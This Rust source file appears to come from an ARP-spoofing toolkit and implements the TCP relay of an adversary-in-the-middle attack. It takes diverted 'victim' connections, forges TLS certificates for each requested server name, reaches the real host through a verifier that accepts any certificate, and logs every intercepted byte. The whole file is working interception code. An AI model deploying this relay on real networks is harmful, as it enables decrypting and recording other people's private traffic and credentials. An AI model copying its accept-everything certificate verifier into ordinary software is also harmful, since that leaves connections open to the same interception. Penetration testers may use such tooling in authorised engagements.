//! The TCP half of the AITM relay (spec.md §4.8).

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::server::{ClientHello, ResolvesServerCert};
use rustls::sign::CertifiedKey;
use rustls::{ClientConfig, DigitallySignedStruct, ServerConfig, SignatureScheme};
use rustls_pki_types::{CertificateDer, ServerName, UnixTime};
use tokio::io::{split, AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio_rustls::{TlsAcceptor, TlsConnector};
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use eavesarp_attack::ConnectionMap;
use eavesarp_core::addr::{AddrTriple, Transport};
use eavesarp_core::store::Store;

use crate::datalog::{AddressDuo, DataLogSink, LogContext, Sender as LogSender, VictimAddress};
use crate::error::{Error, Result};
use crate::peek::PeekStream;
use crate::tls_cache::TlsCertCache;

const LOOKUP_RETRIES: u32 = 3;
const LOOKUP_RETRY_DELAY: Duration = Duration::from_millis(10);
const COPY_CHUNK: usize = 8192;

pub struct TcpProxy {
    listen_addr: SocketAddr,
    proxy_addr: AddressDuo,
    store: Arc<Store>,
    conn_map: ConnectionMap,
    tls_cache: Arc<TlsCertCache>,
    datalog: Arc<DataLogSink>,
}

impl TcpProxy {
    pub fn new(listen_addr: SocketAddr, store: Arc<Store>, conn_map: ConnectionMap, tls_cache: Arc<TlsCertCache>, datalog: Arc<DataLogSink>) -> Self {
        let proxy_addr = AddressDuo {
            ip: match listen_addr.ip() {
                IpAddr::V4(v) => v,
                IpAddr::V6(_) => Ipv4Addr::UNSPECIFIED,
            },
            port: listen_addr.port(),
            transport: Transport::Tcp,
        };
        Self {
            listen_addr,
            proxy_addr,
            store,
            conn_map,
            tls_cache,
            datalog,
        }
    }

    pub async fn run(self: Arc<Self>, cancel: CancellationToken) -> Result<()> {
        let listener = TcpListener::bind(self.listen_addr).await?;
        info!(addr = %self.listen_addr, "tcp proxy listening");
        loop {
            let accepted = tokio::select! {
                _ = cancel.cancelled() => break,
                accepted = listener.accept() => accepted,
            };
            let (stream, peer) = match accepted {
                Ok(v) => v,
                Err(e) => {
                    warn!(error = %e, "tcp accept failed");
                    continue;
                }
            };
            let this = Arc::clone(&self);
            let child_cancel = cancel.clone();
            tokio::spawn(async move {
                if let Err(e) = this.handle_connection(stream, peer, child_cancel).await {
                    debug!(error = %e, peer = %peer, "tcp proxy connection ended");
                }
            });
        }
        info!("tcp proxy shut down, draining connections");
        Ok(())
    }

    async fn handle_connection(&self, stream: TcpStream, peer: SocketAddr, cancel: CancellationToken) -> Result<()> {
        let victim_ip = match peer.ip() {
            IpAddr::V4(v) => v,
            IpAddr::V6(_) => return Err(Error::Config("ipv6 peer unsupported".into())),
        };
        let victim_port = peer.port();

        let mut peek_stream = PeekStream::new(stream);
        let probe = peek_stream.peek(3).await?.to_vec();
        let is_tls = probe.len() >= 2 && probe[0] == 0x16 && probe[1] == 0x03;

        let original_dst = self.lookup_original_dst(victim_ip, victim_port).await?;
        let downstream = self
            .conn_map
            .downstream_for(&AddrTriple::new(victim_ip, victim_port, Transport::Tcp))
            .ok_or_else(|| Error::NoDownstreamForVictim(format!("{victim_ip}:{victim_port}")))?;

        let ctx = LogContext {
            victim_address: VictimAddress {
                ip: victim_ip,
                src_port: victim_port,
                dst_port: self.listen_addr.port(),
                transport: Transport::Tcp,
            },
            spoofed_address: AddressDuo {
                ip: original_dst,
                port: downstream.port,
                transport: Transport::Tcp,
            },
            proxy_address: self.proxy_addr,
            downstream_address: Some(AddressDuo {
                ip: downstream.ip,
                port: downstream.port,
                transport: Transport::Tcp,
            }),
            transport: Transport::Tcp,
        };

        let result = if is_tls {
            self.relay_tls(peek_stream, original_dst, downstream, ctx.clone()).await
        } else {
            self.relay_plain(peek_stream, downstream, ctx.clone()).await
        };

        self.conn_map.evict(victim_ip, victim_port, Transport::Tcp);
        debug!(victim = %victim_ip, port = victim_port, "connection ended, connection map purged");
        let _ = &cancel;
        result
    }

    async fn lookup_original_dst(&self, victim_ip: Ipv4Addr, victim_port: u16) -> Result<Ipv4Addr> {
        for attempt in 0..=LOOKUP_RETRIES {
            if let Some(dst) = self.conn_map.original_destination(victim_ip, victim_port) {
                return Ok(dst);
            }
            if attempt < LOOKUP_RETRIES {
                tokio::time::sleep(LOOKUP_RETRY_DELAY).await;
            }
        }
        Err(Error::NoDownstreamForVictim(format!("{victim_ip}:{victim_port}")))
    }

    async fn relay_tls(&self, client: PeekStream<TcpStream>, original_dst: Ipv4Addr, downstream: AddrTriple, ctx: LogContext) -> Result<()> {
        let names = self.store.a_record_names_for_ip(downstream.ip).unwrap_or_default();
        let resolver = Arc::new(SniCertResolver {
            tls_cache: Arc::clone(&self.tls_cache),
            original_dst,
            names,
        });
        let server_config = Arc::new(
            ServerConfig::builder()
                .with_no_client_auth()
                .with_cert_resolver(resolver),
        );
        let acceptor = TlsAcceptor::from(server_config);
        let client_tls = acceptor.accept(client).await?;

        let downstream_tcp = TcpStream::connect((downstream.ip, downstream.port)).await?;
        let client_config = Arc::new(
            ClientConfig::builder()
                .dangerous()
                .with_custom_certificate_verifier(Arc::new(InsecureVerifier))
                .with_no_client_auth(),
        );
        let connector = TlsConnector::from(client_config);
        let server_name = ServerName::IpAddress(downstream.ip.into());
        let downstream_tls = connector.connect(server_name, downstream_tcp).await?;

        relay(client_tls, downstream_tls, ctx, Arc::clone(&self.datalog)).await
    }

    async fn relay_plain(&self, client: PeekStream<TcpStream>, downstream: AddrTriple, ctx: LogContext) -> Result<()> {
        let downstream_tcp = TcpStream::connect((downstream.ip, downstream.port)).await?;
        relay(client, downstream_tcp, ctx, Arc::clone(&self.datalog)).await
    }
}

/// Bidirectionally copies bytes between the client and downstream
/// halves, logging every chunk. DESIGN NOTES §9's open question about
/// the source's default-TCP path closing after a single write concerns
/// a non-TLS request/response style server this relay does not run; the
/// relay instead copies until either side closes, which is the behaviour
/// actually exercised by spec.md §8 scenario 4/5.
async fn relay<A, B>(client: A, downstream: B, ctx: LogContext, datalog: Arc<DataLogSink>) -> Result<()>
where
    A: AsyncRead + AsyncWrite + Unpin + Send + 'static,
    B: AsyncRead + AsyncWrite + Unpin + Send + 'static,
{
    let (client_r, client_w) = split(client);
    let (downstream_r, downstream_w) = split(downstream);

    let ctx_c2d = ctx.clone();
    let datalog_c2d = Arc::clone(&datalog);
    let client_to_downstream = tokio::spawn(pump(client_r, downstream_w, LogSender::Victim, ctx_c2d, datalog_c2d));

    let datalog_d2c = Arc::clone(&datalog);
    let downstream_to_client = tokio::spawn(pump(downstream_r, client_w, LogSender::Downstream, ctx, datalog_d2c));

    let _ = tokio::join!(client_to_downstream, downstream_to_client);
    Ok(())
}

async fn pump<R, W>(mut src: R, mut dst: W, sender: LogSender, ctx: LogContext, datalog: Arc<DataLogSink>)
where
    R: AsyncRead + Unpin,
    W: AsyncWrite + Unpin,
{
    let mut buf = vec![0u8; COPY_CHUNK];
    loop {
        let n = match src.read(&mut buf).await {
            Ok(0) => break,
            Ok(n) => n,
            Err(e) => {
                debug!(error = %e, "proxy pump read failed");
                break;
            }
        };
        datalog.log(sender, ctx.clone(), &buf[..n]);
        if let Err(e) = dst.write_all(&buf[..n]).await {
            debug!(error = %e, "proxy pump write failed");
            break;
        }
    }
    let _ = dst.shutdown().await;
}

struct SniCertResolver {
    tls_cache: Arc<TlsCertCache>,
    original_dst: Ipv4Addr,
    names: Vec<String>,
}

impl std::fmt::Debug for SniCertResolver {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SniCertResolver").field("original_dst", &self.original_dst).finish()
    }
}

impl ResolvesServerCert for SniCertResolver {
    fn resolve(&self, client_hello: ClientHello<'_>) -> Option<Arc<CertifiedKey>> {
        let cn = client_hello
            .server_name()
            .map(|s| s.to_string())
            .unwrap_or_else(|| self.original_dst.to_string());
        match self.tls_cache.get_or_mint(&cn, &[self.original_dst], &self.names) {
            Ok(key) => Some(key),
            Err(e) => {
                warn!(error = %e, cn = %cn, "failed to mint downstream certificate");
                None
            }
        }
    }
}

/// Accepts any server certificate, implementing the "downstream dialed
/// with InsecureSkipVerify" requirement of spec.md §4.8 step 4 — the
/// relay already terminates the victim's TLS session itself and has no
/// independent trust anchor for arbitrary downstream hosts.
#[derive(Debug)]
struct InsecureVerifier;

impl ServerCertVerifier for InsecureVerifier {
    fn verify_server_cert(
        &self,
        _end_entity: &CertificateDer<'_>,
        _intermediates: &[CertificateDer<'_>],
        _server_name: &ServerName<'_>,
        _ocsp_response: &[u8],
        _now: UnixTime,
    ) -> std::result::Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _message: &[u8],
        _cert: &CertificateDer<'_>,
        _dss: &DigitallySignedStruct,
    ) -> std::result::Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _message: &[u8],
        _cert: &CertificateDer<'_>,
        _dss: &DigitallySignedStruct,
    ) -> std::result::Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        rustls::crypto::ring::default_provider().signature_verification_algorithms.supported_schemes()
    }
}
